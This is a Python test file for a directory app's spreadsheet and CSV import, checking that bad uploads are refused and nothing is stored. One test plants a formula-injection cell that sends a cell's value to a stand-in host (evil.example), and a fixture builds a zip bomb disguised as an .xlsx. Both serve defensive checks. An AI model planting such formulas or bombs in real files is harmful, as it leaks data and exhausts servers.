"""Files that are not what an import expects: each gets a clear answer, and nothing is written."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from tests.exchange.helpers import (
    INSTITUTION_HEADERS,
    INSTITUTION_IMPORT,
    csv_file,
    institution_row,
    rows,
    upload,
    xlsx,
)

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00:~\x9bU"


def _refused(response, *fragments: str) -> dict:
    """422 VALIDATION_FAILED about the file, its message naming each of `fragments`; nothing stored."""
    assert response.status_code == 422, response.get_data(as_text=True)
    body = response.get_json()
    assert body["code"] == "VALIDATION_FAILED"
    text = " ".join(body["fields"]["file"])
    for fragment in fragments:
        assert fragment in text, body
    assert rows("institutions") == 0
    return body


def test_a_file_that_is_not_a_spreadsheet_is_refused(admin):
    _refused(upload(admin, INSTITUTION_IMPORT, PNG, "photo.xlsx"))


def test_a_zip_that_is_not_an_xlsx_is_refused(admin):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")

    _refused(upload(admin, INSTITUTION_IMPORT, out.getvalue(), "名录.xlsx"), ".xlsx")


def test_a_damaged_xlsx_is_refused(admin):
    data = xlsx(INSTITUTION_HEADERS, [institution_row(1)])

    _refused(upload(admin, INSTITUTION_IMPORT, data[: len(data) // 2], "名录.xlsx"))


def test_an_empty_file_is_refused(admin):
    _refused(upload(admin, INSTITUTION_IMPORT, b"", "名录.csv"), "空")


def test_a_file_with_only_a_header_row_creates_nothing(admin):
    response = upload(admin, INSTITUTION_IMPORT, xlsx(INSTITUTION_HEADERS, []))

    assert response.status_code == 200
    assert response.get_json()["created"] == 0


def test_missing_required_columns_are_named(admin):
    keep = [i for i, h in enumerate(INSTITUTION_HEADERS) if h not in ("登记号", "街道")]
    headers = [INSTITUTION_HEADERS[i] for i in keep]
    data = xlsx(headers, [[institution_row(1)[i] for i in keep]])

    _refused(upload(admin, INSTITUTION_IMPORT, data), "登记号", "街道")


def test_an_unknown_column_is_refused_naming_it(admin):
    data = csv_file([*INSTITUTION_HEADERS, "备注栏"], [[*institution_row(1), "无"]])

    _refused(upload(admin, INSTITUTION_IMPORT, data, "名录.csv"), "备注栏")


def test_a_column_given_twice_is_refused(admin):
    headers = [*INSTITUTION_HEADERS, "机构名称"]  # an alias of 名称

    _refused(upload(admin, INSTITUTION_IMPORT, csv_file(headers, [[*institution_row(1), "又一个名称"]]), "a.csv"),
             "重复")


def test_a_text_file_in_an_unknown_encoding_is_refused(admin):
    data = "名称,地址\n".encode("utf-16")

    _refused(upload(admin, INSTITUTION_IMPORT, data, "名录.csv"))


def test_formula_cells_are_rejected_and_never_evaluated(admin):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(INSTITUTION_HEADERS)
    sheet.append(institution_row(1))
    sheet["A2"] = '=HYPERLINK("http://evil.example/steal?d="&B2,"点击查看")'
    sheet.append(institution_row(2))
    sheet["L3"] = "=1+1"
    out = io.BytesIO()
    workbook.save(out)
    workbook.close()

    response = upload(admin, INSTITUTION_IMPORT, out.getvalue(), partial=True)

    assert response.status_code == 200
    answer = response.get_json()
    assert answer["created"] == 0
    assert [(r["row"], list(r["fields"])) for r in answer["rejected"]] == [(2, ["name"]), (3, ["phone"])]
    assert "公式" in answer["rejected"][0]["fields"]["name"][0]
    assert rows("institutions") == 0


def test_a_text_cell_starting_with_equals_in_a_csv_is_plain_text(admin):
    """CSV has no formulas: such a value is stored as written (and escaped again on export)."""
    data = csv_file(INSTITUTION_HEADERS, [institution_row(1, name="=1+1 诊所")])

    response = upload(admin, INSTITUTION_IMPORT, data, "名录.csv")

    assert response.get_json()["created"] == 1
    listed = admin.get("/api/v1/institutions").get_json()["items"]
    assert listed[0]["name"] == "=1+1 诊所"


@pytest.fixture(scope="module")
def zip_bomb(tmp_path_factory) -> bytes:
    """A ZIP posing as .xlsx: [Content_Types].xml and a 300 MB worksheet of zeros (about 300 kB
    compressed), written in chunks so the test itself never holds 300 MB."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b"\0" * (1024 * 1024)
            for _ in range(300):
                member.write(block)
    return path.read_bytes()


def test_a_zip_bomb_posing_as_xlsx_is_refused_before_it_is_inflated(admin, zip_bomb):
    assert len(zip_bomb) < 2 * 1024 * 1024

    _refused(upload(admin, INSTITUTION_IMPORT, zip_bomb, "名录.xlsx"), "压缩炸弹")


def test_an_upload_over_the_import_size_limit_is_refused_with_413(app, admin):
    """Imports take up to 32 MB (a city's directory as CSV), more than MAX_CONTENT_LENGTH allows elsewhere."""
    from api.request import MULTIPART_ALLOWANCE
    from directory.routes import IMPORT_MAX_BYTES

    too_big = b"x" * (IMPORT_MAX_BYTES + MULTIPART_ALLOWANCE + 1)

    response = upload(admin, INSTITUTION_IMPORT, too_big, "名录.csv")

    assert response.status_code == 413
    assert response.get_json()["code"] == "PAYLOAD_TOO_LARGE"
    assert "32 MB" in response.get_json()["message"]
    assert rows("institutions") == 0


def test_an_import_larger_than_the_app_wide_body_limit_is_read(app, admin):
    over_the_app_limit = b"\xef\xbb\xbf" + b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)

    response = upload(admin, INSTITUTION_IMPORT, over_the_app_limit, "名录.csv")

    assert response.status_code == 422  # read, and refused for what it holds (no known headers), not its size
    assert rows("institutions") == 0


def test_a_request_without_a_file_is_refused(admin):
    response = admin.post(INSTITUTION_IMPORT, data={}, content_type="multipart/form-data")

    assert response.status_code == 422
    assert "file" in response.get_json()["fields"]


def test_an_xlsx_damaged_past_its_first_rows_is_refused_and_nothing_is_written(admin):
    good = xlsx(INSTITUTION_HEADERS, [institution_row(n) for n in range(1, 40)])
    damaged = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source, zipfile.ZipFile(damaged, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                content = content[: len(content) * 2 // 3]  # cut off in the middle of a row
            target.writestr(info, content)

    response = upload(admin, INSTITUTION_IMPORT, damaged.getvalue(), partial=True)

    _refused(response, "损坏")
